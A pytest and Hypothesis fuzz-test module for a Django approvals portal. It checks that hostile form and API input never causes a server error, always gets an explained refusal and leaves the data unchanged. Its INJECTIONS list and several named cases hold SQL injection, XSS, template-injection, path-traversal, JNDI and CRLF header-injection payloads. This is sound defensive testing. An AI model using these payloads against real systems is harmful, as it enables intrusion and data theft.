"""Hostile input to the browser forms and the API: never a 5xx, always a message, nothing kept.

Each example runs in a savepoint that is rolled back afterwards, so every example meets the
same request and case. An answer may be a success (2xx, or a redirect after a form); any 4xx
must say what was wrong (a form error on the page, or a problem document with a `detail`) and
leave every row as it was (tests/hardening/security_fixtures.fingerprint). Signed webhook bodies
are fuzzed in tests/webhooks/test_fuzz.py.
"""

import html
import json
from urllib.parse import quote

import pytest
from django.db import transaction
from django.forms import BaseForm
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.api import services as token_services
from portal.api.problems import CATALOGUE
from tests.hardening.security_fixtures import (
    _working_morning,
    fingerprint,
    matrix,
    open_case,
    pending_request,
    staffed,
)

__all__ = ["_working_morning", "matrix", "open_case", "pending_request", "staffed"]

FUZZ = settings(
    max_examples=12,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# NUL, unpaired surrogates, a right-to-left override, a byte-order mark, a non-character, a
# zero-width joiner, combining marks piled on one letter, astral characters.
TRICKY = ["\x00", "\ud800", "\udfff", "\u202e", "\ufeff", "\uffff", "\u200d", "e" + "\u0301" * 40]
INJECTIONS = [
    "'; DROP TABLE approvals_approvalrequest; --",
    "' OR '1'='1",
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "${jndi:ldap://example.invalid/a}",
    "\r\nSet-Cookie: stolen=1",
]

texts = st.one_of(
    st.text(alphabet=st.characters(exclude_categories=()), max_size=30),
    st.lists(st.sampled_from(TRICKY) | st.text(max_size=3), max_size=6).map("".join),
    st.sampled_from(INJECTIONS),
    st.tuples(st.sampled_from(["x", "é", "😀", "\u202e"]), st.integers(4_001, 20_000)).map(
        lambda pair: pair[0] * pair[1]
    ),
)
AMOUNTS = ["-1", "-0.01", "NaN", "nan", "Infinity", "-Infinity", "1e999", "9" * 40, "0.001"]
amount_texts = st.sampled_from([*AMOUNTS, "1,000", "0x10", " 12 ", "12 EUR", "", "١٢٣", "1_000"])
numbers = st.one_of(
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from([0, -1, 2**63, -(2**63) - 1, 1e308, -0.0]),
)
json_values = st.recursive(
    st.none() | st.booleans() | numbers | texts | amount_texts,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=6), children, max_size=3)
    ),
    max_leaves=8,
)
form_values = st.one_of(texts, amount_texts, st.integers().map(str))


@st.composite
def deep_bodies(draw, around: dict | None = None) -> bytes:
    """JSON nested hundreds or thousands of levels deep, alone or as the `details` of
    `around`; written as bytes, since Python's own json and repr would recurse that deep."""
    depth = draw(st.integers(50, 3_000))
    opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
    nested = (opener * depth + '"x"' + closer * depth).encode()
    if around is None:
        return nested
    return json.dumps(around | {"details": "__DEEP__"}).encode().replace(b'"__DEEP__"', nested)


# --- what a refusal must look like ------------------------------------------------------------


def _context_values(response) -> list:
    layers = response.context if isinstance(response.context, list) else [response.context]
    values = []
    for layer in layers:
        if layer is not None:
            values.extend(layer.flatten().values())
    return values


def assert_html_refusal_explains_itself(response):
    page = html.unescape(response.content.decode(errors="replace"))
    values = _context_values(response)
    messages = [
        str(error)
        for form in values
        if isinstance(form, BaseForm) and form.is_bound
        for errors in form.errors.values()
        for error in errors
    ]
    if messages:
        assert any(message in page for message in messages), messages
    else:
        assert 'role="alert"' in page or "<h1>" in page, page[:2000]


def assert_problem_explains_itself(response):
    assert response["Content-Type"] == "application/problem+json", response.content[:300]
    body = response.json()
    assert body["code"] in CATALOGUE
    assert body["status"] == response.status_code
    assert isinstance(body["detail"], str) and body["detail"].strip()


def judged(response, before: dict, *, api: bool):
    """Check one answer: no 5xx; a 4xx explains itself and leaves every row as it was."""
    status = response.status_code
    assert status < 500, response.content[:1000]
    if 400 <= status < 500:
        if api:
            assert_problem_explains_itself(response)
        else:
            assert_html_refusal_explains_itself(response)
        assert fingerprint() == before
    return status


class Rollback(Exception):
    pass


def in_savepoint(run):
    """Run one example and undo whatever it did, so that the next one starts alike."""
    try:
        with transaction.atomic():
            run()
            raise Rollback
    except Rollback:
        pass


def form_body(fields: dict) -> bytes:
    """A urlencoded body as a hostile client may send it: lone surrogates as their raw bytes."""
    pairs = []
    for name, value in fields.items():
        for item in value if isinstance(value, list) else [value]:
            raw = str(item).encode("utf-8", "surrogatepass")
            pairs.append(f"{quote(name)}={quote(raw)}")
    return "&".join(pairs).encode()


def post_form(client, url, fields):
    return client.post(url, form_body(fields), content_type="application/x-www-form-urlencoded")


def post_json(client, url, payload, **headers):
    body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return client.post(url, body, content_type="application/json", **headers)


@pytest.fixture(autouse=True)
def _no_rate_limit(settings):
    settings.API_RATE_LIMIT = "1000000/minute"


@pytest.fixture
def signed_in():
    def make(user) -> Client:
        client = Client(raise_request_exception=False)
        client.force_login(user)
        return client

    return make


@pytest.fixture
def api_for():
    def make(user) -> Client:
        _, secret = token_services.token_create(actor=None, user=user, name="fuzz")
        client = Client(raise_request_exception=False, HTTP_AUTHORIZATION=f"Bearer {secret}")
        return client

    return make


# --- browser forms ----------------------------------------------------------------------------


@FUZZ
@given(
    action=st.sampled_from(["approve", "reject", "delegate"]),
    comment=form_values,
    step=form_values | st.none(),
    until=form_values,
)
def test_deciding_a_request_with_hostile_fields(
    signed_in, site_manager, pending_request, action, comment, step, until
):
    client = signed_in(site_manager)
    url = f"/approvals/{pending_request.pk}/{action}/"
    fields = {"comment": comment, "reason": comment, "note": comment, "delegate": comment}
    fields["until"] = until
    if step is not None:
        fields["step"] = step

    def run():
        before = fingerprint()
        judged(post_form(client, url, fields), before, api=False)

    in_savepoint(run)


@FUZZ
@given(
    action=st.sampled_from(["resolve", "dismiss", "reopen", "assign"]),
    code=st.sampled_from(["rescheduled", "expedited"]) | form_values,
    text=form_values,
)
def test_working_a_case_with_hostile_fields(signed_in, site_manager, open_case, action, code, text):
    client = signed_in(site_manager)
    fields = {"code": code, "note": text, "reason": text, "owner": text}

    def run():
        before = fingerprint()
        response = post_form(client, f"/exceptions/{open_case.pk}/{action}/", fields)
        judged(response, before, api=False)

    in_savepoint(run)


@FUZZ
@given(
    requests=st.lists(form_values, max_size=3),
    comment=form_values,
    group=form_values,
)
def test_bulk_approval_with_hostile_fields(
    signed_in, site_manager, pending_request, requests, comment, group
):
    client = signed_in(site_manager)
    fields = {"requests": [*requests, str(pending_request.pk)], "comment": comment, "group": group}

    def run():
        before = fingerprint()
        judged(post_form(client, "/approvals/bulk/", fields), before, api=False)

    in_savepoint(run)


@FUZZ
@given(
    page=st.sampled_from(["/manage/preferences/", "/manage/delegations/"]),
    fields=st.fixed_dictionaries(
        {
            "new_steps": st.sampled_from(["each", "digest", "off"]) | form_values,
            "reminders": form_values,
            "delegate": st.sampled_from(["site.manager", "regional.manager"]) | form_values,
            "starts_at": form_values,
            "ends_at": form_values,
            "site": form_values,
            "kind": form_values,
            "max_amount": amount_texts | form_values,
            "note": form_values,
        }
    ),
)
def test_preferences_and_delegations_with_hostile_fields(signed_in, regional_manager, page, fields):
    client = signed_in(regional_manager)

    def run():
        before = fingerprint()
        judged(post_form(client, page, fields), before, api=False)

    in_savepoint(run)


@FUZZ
@given(
    kind=st.sampled_from(["purchase", "write_off"]) | form_values,
    amount=amount_texts | form_values,
    currency=st.sampled_from(["EUR", "eur", "EURO", "€"]) | form_values,
    category=form_values,
    site=form_values,
)
def test_policy_preview_with_hostile_query(
    signed_in, administrator, matrix, site_a1, kind, amount, currency, category, site
):
    client = signed_in(administrator)
    query = form_body(
        {
            "kind": kind,
            "amount": amount,
            "currency": currency,
            "category": category,
            "site": site if site.strip() else str(site_a1.pk),
        }
    ).decode()
    before = fingerprint()

    judged(client.get(f"/manage/policies/preview/?{query}"), before, api=False)


# --- the API ------------------------------------------------------------------------------------

CREATE_FIELDS = {
    "kind": st.sampled_from(["purchase", "transfer"]) | json_values,
    "title": st.just("Pallets") | json_values,
    "reason": st.just("Stock") | json_values,
    "amount": st.sampled_from(["1200.00", 1200]) | amount_texts | json_values,
    "currency": st.sampled_from(["EUR", None]) | json_values,
    "category": json_values,
    "counterparty": json_values,
    "details": st.just({}) | json_values,
    "submit": st.booleans() | json_values,
}


@st.composite
def create_payloads(draw, site_id: int):
    payload = {"site_id": site_id}
    for name, strategy in CREATE_FIELDS.items():
        if draw(st.booleans()):
            payload[name] = draw(strategy)
    if draw(st.booleans()):
        payload["site_id"] = draw(json_values)
    return payload


@FUZZ
@given(data=st.data())
def test_raising_a_request_through_the_api_with_hostile_payloads(
    api_for, requester, matrix, site_a1, data
):
    client = api_for(requester)
    valid = {"kind": "purchase", "site_id": site_a1.pk, "title": "T", "reason": "R", "amount": "9"}
    payload = data.draw(
        create_payloads(site_a1.pk) | json_values | deep_bodies() | deep_bodies(valid),
        label="payload",
    )

    def run():
        before = fingerprint()
        status = judged(post_json(client, "/api/v1/approvals/", payload), before, api=True)
        assert status in (201, 400, 413, 422)

    in_savepoint(run)


@FUZZ
@given(
    route=st.sampled_from(
        [
            ("approvals", "approve"),
            ("approvals", "reject"),
            ("approvals", "withdraw"),
            ("approvals", "delegate"),
            ("exceptions", "resolve"),
            ("exceptions", "dismiss"),
            ("exceptions", "assign"),
            ("exceptions", "reopen"),
        ]
    ),
    payload=st.fixed_dictionaries(
        {},
        optional={
            "comment": json_values,
            "reason": json_values,
            "step_id": json_values,
            "code": st.just("rescheduled") | json_values,
            "note": json_values,
            "owner_id": json_values,
            "delegate": json_values,
            "ends_at": json_values,
        },
    )
    | json_values
    | deep_bodies()
    | deep_bodies({"comment": "ok", "reason": "no", "note": "done", "code": "rescheduled"}),
)
def test_deciding_and_working_through_the_api_with_hostile_payloads(
    api_for, site_manager, pending_request, open_case, route, payload
):
    client = api_for(site_manager)
    resource, action = route
    pk = pending_request.pk if resource == "approvals" else open_case.pk

    def run():
        before = fingerprint()
        response = post_json(client, f"/api/v1/{resource}/{pk}/{action}/", payload)
        assert judged(response, before, api=True) in (200, 400, 403, 404, 409, 413, 422)

    in_savepoint(run)


@FUZZ
@given(
    payload=st.fixed_dictionaries(
        {"name": st.just("n8n") | json_values},
        optional={
            "read_only": json_values,
            "actions": st.lists(st.sampled_from(["approvals.list", "x"]) | texts) | json_values,
            "expires_at": st.sampled_from(["2030-01-01T00:00:00Z", "yesterday", ""]) | json_values,
        },
    )
    | json_values
)
def test_creating_a_token_with_hostile_payloads(api_for, requester, payload):
    client = api_for(requester)

    def run():
        before = fingerprint()
        response = post_json(client, "/api/v1/tokens/", payload)
        assert judged(response, before, api=True) in (201, 400, 422)

    in_savepoint(run)


# --- named cases, each with the message it must give -----------------------------------------


@pytest.mark.parametrize(
    ("body", "status", "words"),
    [
        (b'{"kind": "purchase", "amount": NaN}', 400, "JSON"),
        (b'{"kind": "purchase", "amount": Infinity}', 400, "JSON"),
        (b"[" * 100_000 + b"]" * 100_000, 400, "nested too deeply"),
        (b'{"kind": "purchase"', 400, "JSON"),
        (b"\xff\xfe{}", 400, ""),
    ],
)
def test_unparseable_bodies_are_400_with_a_reason(api_for, requester, body, status, words):
    client = api_for(requester)
    before = fingerprint()

    response = post_json(client, "/api/v1/approvals/", body)

    assert judged(response, before, api=True) == status
    assert words in response.json()["detail"]


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("amount", "-1", "greater than or equal to 0"),
        ("amount", "NaN", "valid number"),
        ("amount", "1e999", "16 digits"),
        ("amount", "9" * 40, "digits"),
        ("amount", [], "decimal string"),
        ("title", "x" * 201, "200 characters"),
        ("title", "a\x00b", "Null characters"),
        ("site_id", 2**64, "less than or equal"),
        ("site_id", "1; DROP TABLE sites_site", "whole number"),
        ("details", "not a dict", "dictionary"),
    ],
)
def test_each_bad_field_of_a_new_request_is_named(
    api_for, requester, matrix, site_a1, field, value, words
):
    payload = {
        "kind": "purchase",
        "site_id": site_a1.pk,
        "title": "Pallets",
        "reason": "Stock",
        "amount": "1200.00",
    }
    payload[field] = value
    client = api_for(requester)
    before = fingerprint()

    response = post_json(client, "/api/v1/approvals/", payload)

    assert judged(response, before, api=True) == 422
    assert any(words in message for message in response.json()["errors"][field])


def test_text_with_an_unpaired_surrogate_is_refused_not_stored(api_for, requester, matrix, site_a1):
    # PostgreSQL cannot store a lone surrogate; it must be a 422 naming the field, not a 500.
    payload = {
        "kind": "purchase",
        "site_id": site_a1.pk,
        "title": "Pallets \ud800",
        "reason": "Stock",
        "amount": "1200.00",
    }
    client = api_for(requester)
    before = fingerprint()

    response = post_json(client, "/api/v1/approvals/", payload)

    assert judged(response, before, api=True) == 422
    assert "title" in response.json()["errors"]


def test_a_body_over_the_upload_limit_is_413(api_for, requester, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    client = api_for(requester)
    before = fingerprint()

    response = post_json(client, "/api/v1/approvals/", {"reason": "x" * 20_000})

    assert judged(response, before, api=True) == 413


def test_an_amount_with_too_many_decimals_in_a_form_is_refused(signed_in, administrator, matrix):
    client = signed_in(administrator)
    before = fingerprint()

    response = client.get(
        "/manage/policies/preview/", {"kind": "purchase", "amount": "0.001", "currency": "EUR"}
    )

    assert judged(response, before, api=False) == 400
    assert "2 decimal places" in html.unescape(response.text)


@pytest.mark.parametrize("action", ["approve", "reject"])
def test_a_tampered_tier_on_the_decision_form_is_explained_on_the_page(
    signed_in, site_manager, pending_request, action
):
    # The tier is a hidden field: its error used to be dropped, leaving a 400 page that said
    # nothing about what was wrong.
    client = signed_in(site_manager)
    before = fingerprint()

    response = post_form(
        client, f"/approvals/{pending_request.pk}/{action}/", {"step": "1 OR 1=1", "reason": "x"}
    )

    assert judged(response, before, api=False) == 400
    assert "reload the page and decide again" in response.text


def test_reopening_an_open_case_says_why_whatever_the_form_holds(
    signed_in, site_manager, open_case
):
    # The page shows no reopen form for an open case, so the form's "Say why" error used to
    # come back on a 400 page that did not show it.
    client = signed_in(site_manager)
    before = fingerprint()

    response = post_form(client, f"/exceptions/{open_case.pk}/reopen/", {"reason": ""})

    assert judged(response, before, api=False) == 409
    assert "this needs a closed case" in response.text
